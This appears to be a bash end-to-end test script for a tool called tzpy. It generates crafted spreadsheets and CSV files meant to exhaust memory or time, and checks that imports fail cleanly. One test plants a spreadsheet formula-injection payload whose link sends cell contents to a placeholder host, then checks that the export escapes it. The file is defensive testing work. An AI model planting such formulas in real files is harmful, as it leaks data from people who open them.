#!/usr/bin/env bash
# End-to-end: crafted spreadsheets of about 100 KB must not take the server down. Each is imported (dry run)
# under a 1 GiB address-space limit and a 20 s timeout, and tzpy must end with its own exit status (0 or 1) and
# a message naming the file, not by a signal (an allocation failure aborts) or the timeout (status 124).
#  1. 20,000 rows, each with one cell at column ZZZ: past Excel's last column (XFD), refused naming the cell.
#  2. The same at XFD, Excel's last column: read (sparsely) and reported as holding no claims table.
#  3. A CSV whose header is the platform export's, followed by lines of 16,000 commas each.
#  4. A CSV line with a million commas: refused naming its line.
#  5. A reviewer's comment starting with = is exported to CSV behind a leading ' (formula injection).
source "$(dirname "$0")/lib.sh"
command -v prlimit >/dev/null || fail "prlimit (util-linux) is not installed"
D="$WORK/store"
"$TZPY" demo "$D" --schools 5 --seed 1 >/dev/null

python3 - "$WORK" <<'PY' || fail "python3 could not build the hostile files"
import sys, zipfile
work = sys.argv[1]
main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
rel = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
def workbook(path, column):
    rows = "".join(f'<row r="{n}"><c r="{column}{n}" t="inlineStr"><is><t>x</t></is></c></row>' for n in range(1, 20001))
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("xl/workbook.xml", f'<workbook xmlns="{main}" xmlns:r="{rel}"><sheets><sheet name="表" sheetId="1" r:id="rId1"/></sheets></workbook>')
        z.writestr("xl/_rels/workbook.xml.rels", '<Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships">'
                   f'<Relationship Id="rId1" Type="{rel}/worksheet" Target="worksheets/sheet1.xml"/></Relationships>')
        z.writestr("xl/worksheets/sheet1.xml", f'<worksheet xmlns="{main}"><sheetData>{rows}</sheetData></worksheet>')
workbook(f"{work}/zzz.xlsx", "ZZZ")
workbook(f"{work}/xfd.xlsx", "XFD")
with open(f"{work}/commas.csv", "w", encoding="utf-8") as f:
    f.write("序号,工作任务,是否承接,承接数量\n")
    for _ in range(60):
        f.write("," * 16000 + "\n")
with open(f"{work}/million.csv", "w", encoding="utf-8") as f:
    f.write("学校代码,序号\n" + "," * 1_000_000 + "\n")
PY
for f in zzz.xlsx xfd.xlsx commas.csv million.csv; do
  size=$(stat -c %s "$WORK/$f")
  (( size < 1100000 )) || fail "$f is $size bytes, meant to be under 1 MB"
done

# run NAME: imports $WORK/NAME under the limits; its status in $status, its output in $WORK/NAME.out.
run() {
  status=0
  timeout 20 prlimit --as=$((1 << 30)) -- "$TZPY" import "$WORK/$1" --data "$D" --dry-run > "$WORK/$1.out" 2>&1 || status=$?
  if (( status == 124 )); then fail "$1: not done within 20 s"; fi
  if (( status > 1 )); then cat "$WORK/$1.out" >&2; fail "$1: ended with status $status (a signal or a crash), not 0 or 1"; fi
}
expect() { grep -qF -- "$2" "$WORK/$1.out" || { cat "$WORK/$1.out" >&2; fail "$1: the output does not say: $2"; }; }

run zzz.xlsx
(( status == 1 )) || fail "zzz.xlsx: a cell past XFD was accepted"
expect zzz.xlsx "$WORK/zzz.xlsx:表!ZZZ1："
expect zzz.xlsx "XFD"
pass "a workbook with cells at ZZZ is refused, naming the file, sheet and cell, within 1 GiB and 20 s"

run xfd.xlsx
(( status == 1 )) || fail "xfd.xlsx: imported although it holds no claims table"
expect xfd.xlsx "$WORK/xfd.xlsx:1："
expect xfd.xlsx "表头"
pass "a workbook with 20,000 cells at XFD is read and reported as holding no table, within 1 GiB and 20 s"

run commas.csv
(( status == 1 )) || fail "commas.csv: imported although it holds no claims"
pass "a platform CSV with lines of 16,000 commas is read within 1 GiB and 20 s"

run million.csv
(( status == 1 )) || fail "million.csv: a line of a million commas was accepted"
expect million.csv "$WORK/million.csv:2："
expect million.csv "16384"
pass "a CSV line with a million commas is refused, naming the file and line"

# 5. Formula injection: a reviewer's comment that Excel would run is exported to CSV behind a leading '.
"$TZPY" claims --data "$D" --status pending --json > "$WORK/pending.jsonl"
read -r S I < <(python3 -c 'import json,sys; c=json.loads(open(sys.argv[1]).readline()); print(c["school"], c["item"])' "$WORK/pending.jsonl")
"$TZPY" decide --data "$D" --school "$S" --item "$I" --return '=HYPERLINK("http://x.example/?"&A1,"点击")' > /dev/null
"$TZPY" export --data "$D" --report returns --out "$WORK/returns.csv" > /dev/null
grep -qF "\"'=HYPERLINK(\"\"http://x.example/?\"\"&A1,\"\"点击\"\")\"" "$WORK/returns.csv" || { cat "$WORK/returns.csv" >&2; fail "the comment was exported without the formula guard"; }
pass "a comment starting with = is exported to CSV as text ('=…)"
echo "1 passed, 0 failed"
